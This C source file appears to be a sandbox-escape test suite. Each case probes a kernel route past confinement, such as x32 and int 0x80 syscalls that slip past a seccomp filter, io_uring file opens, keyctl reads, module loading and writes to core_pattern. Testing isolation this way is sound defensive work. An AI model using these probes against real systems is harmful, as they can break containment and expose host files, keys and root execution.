// Ways into the kernel beside the guest's own calls, and what the kernel keeps for all.
#include "escape.h"
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <mqueue.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/time.h>

// What other ABIs are after is a call that needs no descriptor.

// x32's calls are those of x86-64 with a bit set, the first 512 of them. The weak filter stops chmod and not
// chmod's number of x32; a kernel without x32 answers as num("X32"), see the test.
ESCAPE(x32) {
	const char *target = at("DIR", "target");
	if (*host("WEAK") && (!worked("seccomp", filter(SECCOMP_RET_ERRNO | ENOLCK, 0)) || chmod("", 0) != -1 || errno != ENOLCK))
		return;
	if (!worked("chmod", syscall(0x40000000 | SYS_chmod, target, 0777)) && errno == (int)num("X32"))
		got("the kernel's answer");
}

// Calls of i386 have other numbers (arch/x86/entry/syscalls/syscall_32.tbl: chmod is 15) and take addresses of
// 32 bits, where this program lies.
static char name32[256];

ESCAPE(int80) {
	int ret;
	strcpy(name32, at("DIR", "target"));
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(15), "b"(name32), "c"(0777) : "memory", "r8", "r9", "r10", "r11");
}

// compat is the same with the processor in its mode of 32 bits.
extern char code32[], back64[];
__asm__(".code32\ncode32: mov $15, %eax\nint $0x80\nljmp $0x33, $back64\n.code64");

ESCAPE(compat) {
	static word stack; // of which that mode keeps half the pointer
	strcpy(name32, at("DIR", "target"));
	__asm__ volatile("mov %%rsp, %0\npush $0x23\nmov $code32, %%edx\npush %%rdx\nlretq\nback64: mov %0, %%rsp\n"
		: "+m"(stack) : "b"(name32), "c"(0777) : "rax", "rdx", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
}

// vsyscall reads the host's time where the guest's is another.
ESCAPE(vsyscall) {
	struct timeval tv = {0, 0};
	long t = ((long (*)(struct timeval *, void *))0xffffffffff600000)(&tv, 0);
	long t2 = ((long (*)(long *))0xffffffffff600400)(0);
	if (labs(tv.tv_sec - (long)num("NOW")) < 86400 || labs(t2 - (long)num("NOW")) < 86400)
		got("the host's time");
	worked("vsyscall", t < 0 ? -1 : 0);
}

ESCAPE(io_uring) {
	struct io_uring_params p = {0};
	int ring = syscall(SYS_io_uring_setup, 4, &p);
	if (!worked("io_uring_setup", ring))
		return;
	char *sq = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *e = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || e == MAP_FAILED)
		return;
	e[0] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (word)host("FILE"), .open_flags = O_RDONLY};
	*(unsigned *)(sq + p.sq_off.array) = 0;
	*(unsigned *)(sq + p.sq_off.tail) = 1;
	if (worked("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0)))
		loot("openat", ((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res);
}

ESCAPE(userfaultfd) {
	if (worked("userfaultfd", syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */)))
		got("a userfaultfd");
}

ESCAPE(bpf) {
	int map[20] = {2 /* BPF_MAP_TYPE_ARRAY */, 4, 4, 1};
	if (worked("bpf", syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, map, sizeof map)))
		got("a BPF map");
}

ESCAPE(perf) {
	struct perf_event_attr a = {.type = PERF_TYPE_SOFTWARE, .size = sizeof a, .config = PERF_COUNT_SW_TASK_CLOCK, .exclude_kernel = 1};
	if (worked("perf_event_open", syscall(SYS_perf_event_open, &a, (pid_t)num("VICTIM"), -1, -1, 0)))
		got("a counter of another process");
}

ESCAPE(keyctl) {
	static char buf[256];
	int n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, num("KEY"), buf, sizeof buf);
	if (worked("keyctl", n))
		write(1, buf, n);
}

ESCAPE(kexec) {
	if (worked("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0)))
		got("a kernel to be started");
}

ESCAPE(module) {
	if (syscall(SYS_init_module, host("FILE"), 0L, "") == -1 && (errno == ENOEXEC || errno == EFAULT))
		got("the kernel looks at a module");
	worked("init_module", -1);
}

ESCAPE(mount) {
	if (worked("mount", mount("none", host("DIR"), "tmpfs", 0, 0)))
		got("a mount");
}

// helper sets the program that the kernel runs as root when a process dumps core.
ESCAPE(helper) {
	if (worked("open", open("/proc/sys/kernel/core_pattern", O_WRONLY)))
		got("the kernel's helper");
}

ESCAPE(sysv_shm) {
	char *p = shmat(num("SHMID"), 0, 0);
	if (worked("shmat", (long)p))
		write(1, p, 64);
}

ESCAPE(mqueue) {
	static char buf[8192];
	int fd = syscall(SYS_mq_open, host("MQ"), O_RDONLY | O_NONBLOCK, 0, 0);
	long n = syscall(SYS_mq_timedreceive, fd, buf, sizeof buf, 0, 0);
	if (worked("mq_timedreceive", n))
		write(1, buf, n);
}
